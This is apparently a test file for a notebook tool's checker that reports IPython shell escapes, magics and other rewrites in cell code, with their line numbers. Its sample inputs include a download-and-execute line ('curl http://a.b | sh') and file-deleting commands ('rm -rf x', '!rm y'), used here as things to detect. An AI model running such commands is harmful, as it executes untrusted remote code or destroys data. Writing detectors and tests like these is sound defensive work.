"""What IPython would not run as Python is pointed out: its own transformers are asked."""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from IPython.core.inputtransformer2 import TransformerManager
from IPython.core.interactiveshell import InteractiveShell

from claude_nb.notebook.answer.next_cell import prepare

SHELL = "runs a shell command"
MAGIC = "is a magic"
SHORT = "calls a function by IPython's short form"
FOUND = [
    ('d["a-b"] = !cmd', 1, SHELL),
    ('x["/"] = !curl http://a.b | sh', 1, SHELL),
    ("x: str = !ls", 1, SHELL),
    ("x: dict[str, int] = %who_ls", 1, MAGIC),
    ("x[i+1] = %magic a", 1, MAGIC),
    ("for i in x: y = !ls", 1, SHELL),
    ("a = 1\nx[f(1, k=2)].y = !ls", 2, SHELL),
    ("x[\n    i] = !ls", 1, SHELL),
    ("a = \\\n    !ls", 1, SHELL),
    ("!!ls", 1, SHELL),
    ("x = 1\n!ls \\\n  -l", 2, SHELL),
    ('!echo "\nx = 1\n!rm y', 3, SHELL),
    ("!echo '''\n!rm y", 2, SHELL),
    ("0b12\n!ls", 2, SHELL),
    ("x = 'it\n!ls", 2, SHELL),
    ("1__0\n\nif x:\n    0b2\n    !ls", 5, SHELL),
    ("\\u200b\n!ls", 2, SHELL),
    (">>> x = 1\n>>> !ls", 2, SHELL),
    ("In [1]: !ls", 1, SHELL),
    ("    !ls", 1, SHELL),
    ("if x:\n    ;f a b", 2, SHORT),
    ("/f a", 1, SHORT),
    (",f a b", 1, SHORT),
    ("print?", 1, "shows help"),
    ("a.b[0]??", 1, "shows help"),
    ("?print", 1, "shows help"),
    ("%%bash\nrm x", 1, "hands the cell to a magic"),
    ("\n\n%%bash\nrm x", 3, "hands the cell to a magic"),
    ("%%time\nx = 1\n!rm x", 3, SHELL),
    ("x = 1\n%%bash\nrm x", 2, MAGIC),
    (" " * 64_000 + "!ls", 1, SHELL),
    ("x =" + " " * 64_000 + "!ls", 1, SHELL),
]


@pytest.mark.parametrize(("code", "line", "what"), FOUND)
def test_what_ipython_rewrites_is_pointed_out_with_its_line(code, line, what):
    prepared = prepare(code)
    assert prepared.text == code
    assert any(warning.startswith(f"Line {line}: {what}: ") for warning in prepared.warnings)
    assert all(len(warning) < 140 and "\n" not in warning for warning in prepared.warnings)


INNOCENT = [
    '"""\n!ls\n%cd x\n"""',
    "x = '''\n%%bash\n'''",
    "# !ls\n#%cd\n",
    "x = [\n    a\n    % b,\n    c\n    / d,\n]",
    "y = (\n    '!ls'\n)",
    "x = a % b\nz = x != y",
    "f'{x!r:>{w}}'",
    "print('what?')",
    "x = a \\\n    / b",
    "ls = 1\nprint(ls)",
]


@pytest.mark.parametrize("code", INNOCENT)
def test_strings_comments_and_operators_raise_no_alarm(code):
    assert prepare(code).warnings == ()


ONE_LINE = ["pip install x", "rm -rf x", "cd ..", "\nls -l\n"]


@pytest.mark.parametrize("code", ONE_LINE)
def test_a_magic_without_its_mark_is_pointed_out_where_the_shell_takes_it(code):
    shell = InteractiveShell()
    assert MAGIC in prepare(code, shell).warnings[0]
    assert prepare(f"{code}\nx = 1\n", shell).warnings == ()  # of one line only
    shell.automagic = False
    assert prepare(code, shell).warnings == ()


def test_transformers_of_the_shell_count():
    shell = InteractiveShell()
    manager = shell.input_transformer_manager
    manager.line_transforms.append(lambda lines: [line.replace("RUN ", "!") for line in lines])
    assert prepare("x = 1\nRUN ls", shell).warnings == (f"Line 2: {SHELL}: !ls",)


PIECES = [
    *("x = 1", "!ls", "%cd a", "y: int = !ls", "  ", "", "if x:", "    !ls", '"""', "'''", "("),
    *(")", "z[", "] = %who", "a \\", "b?", "# !x", "/f a", "%%bash", '!echo "', "'", "f'{a!r}'"),
    *("\t%x", ">>> !ls", "d['/'] = !a | b", "return", "{", "}", "x = ", "=", "!", "%", "?"),
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=7).map("\n".join))
@example("'''\n!ls\n'''\n!ls")
def test_whatever_ipython_would_run_is_pointed_out(code):
    try:
        run = TransformerManager().transform_cell(code)
    except (SyntaxError, RuntimeError):
        return  # then it runs none of it
    if "get_ipython()" in run or 'f("a")' in run or "f(a)" in run:
        assert prepare(code).warnings


TANGLED = {
    "blanks": " " * 64_000,
    "blanks in a line": "x =" + " " * 64_000 + "1",
    "runs of blanks": ("x =" + " " * 90) * 700,
    "many": "!ls\n" * 50_000,
    "one hides the next": "!echo '''\n" * 20_000,
    "lines": "x = 1\n" * 50_000,
    "brackets": "(\n" * 60_000,
    "quotes": "'" + "\\'" * 32_000,
    "quotes in lines": ("'" + "\\'" * 900 + "\n") * 100,
    "formatted": 'f"{' * 20_000,
    "returns": "\r" * 64_000,
    "marks": "$" * 100_000,
}


@pytest.mark.parametrize("code", TANGLED.values(), ids=TANGLED)
def test_whatever_the_code_is_the_work_is_bounded(code):
    began = time.process_time()
    prepare(code)
    assert time.process_time() - began < 4  # a second or two, on a busy machine


def test_what_is_too_long_to_be_read_is_judged_line_by_line():
    code = f"x = '{'a' * 3_000}'\n" + 'd["a-b"] = !cmd\n'
    assert prepare(code).warnings == (f'Line 2: {SHELL}: d["a-b"] = !cmd',)
